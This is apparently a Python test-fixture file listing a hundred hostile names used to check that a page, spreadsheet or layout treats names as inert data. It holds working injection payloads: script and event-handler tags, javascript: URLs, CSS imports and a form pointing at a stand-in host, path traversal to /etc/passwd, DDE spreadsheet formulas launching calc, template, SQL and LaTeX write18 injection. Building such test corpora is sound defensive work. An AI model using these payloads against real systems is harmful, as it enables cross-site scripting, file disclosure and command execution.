"""A hundred names that attack a page, a spreadsheet or a layout.

Each is legal as the name of a class, a classifier, a file or a group: names are data.  A name that
runs would set ``window.hacked`` or load an address at ``hacked.invalid``; the tests look for both.
"""

RUN = "window.hacked=1"
AWAY = "http://hacked.invalid/x"

MARKUP = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</SCRIPT ><script>{RUN}//",
    f"<!--<script>{RUN}</script>-->",
    "<!-- <script>",
    "--><b>bold</b>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    f"<base href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<form action={AWAY}><button id=verdict>",
    "<h1 id=verdict>prefer me</h1>",
    "<plaintext>",
    "<textarea>",
    "<title>",
    "<style>*{display:none}</style>",
    "<template><slot>",
    f"<math><mtext><mglyph><style><img src=x onerror={RUN}>",
    "]]><b>cdata</b>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e 'boom'>]>&e;",
    "&lt;b&gt; &amp;amp; &#60;script&#62;",
    "&lt;script&gt;",
]

ATTRIBUTES = [
    f'" onmouseover="{RUN}',
    f"' onfocus='{RUN}' autofocus='",
    f"` onclick=`{RUN}",
    'x" style="position:fixed;inset:0;background:red',
    'x" data-value="999" data-lower="999',
    'a"]</tr></table>',
    "A|B",
    "a=b c=d",
]

STYLES = [
    "}*{display:none!important}",
    f"red;background:url({AWAY})",
    "expression(window.hacked=1)",
    f"@import '{AWAY}';",
    "</style><style>body{display:none}",
    "/*",
    "var(--ink)",
]

ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    AWAY,
    "//hacked.invalid/x",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "#u=0.9&verdict=me",
    "%3Cscript%3Ewindow.hacked%3D1%3C/script%3E",
    "CON",
    "a/b\\c:d*e?f",
]

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    f'=HYPERLINK("{AWAY}","click")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
    "0,1;2",
]

TEMPLATES = [
    "{{ 7 * 7 }}",
    "{% raw %}",
    "{# comment #}",
    "${window.hacked=1}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%n%x",
    "__proto__",
    "constructor",
    "toString",
    "\\input{/etc/passwd} $x_1$ % & # ~ ^",
    "\\end{tabular}\\immediate\\write18{id}",
    "'; DROP TABLE classes; --",
    '\\"; window.hacked=1; //',
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
]

CHARACTERS = [
    "line\u2028separator\u2029paragraph",
    "null\x00byte",
    "bell\x07 back\x08space esc\x1b[31mred\x1b[0m",
    "delete\x7f and C1 \x85\x9b",
    "new\nline\r\nand\ttab",
    "\u202eright to left\u202c",
    "\u2066isolate\u2067never closed",
    "\u200f\u200e\u200b\u2060marks",
    "abc \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 def",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f3\ufe0f\u200d\U0001f308"
    * 5,
    "Z" + "\u0310\u0321\u0353\u0349" * 60 + "algo",
    "\ufdfd" * 20,
    "\U000e0041\U000e0042 tags \ufff9a\ufffab\ufffb",
    "\ufeff\u00ad\u034f",
    "\u3164",
]

LONG = [
    "w" * 10_000,
]

NAMES = [*MARKUP, *ATTRIBUTES, *STYLES, *ADDRESSES, *FORMULAS, *TEMPLATES, *CHARACTERS, *LONG]
assert len(NAMES) == len(set(NAMES)) == 100, len(NAMES)
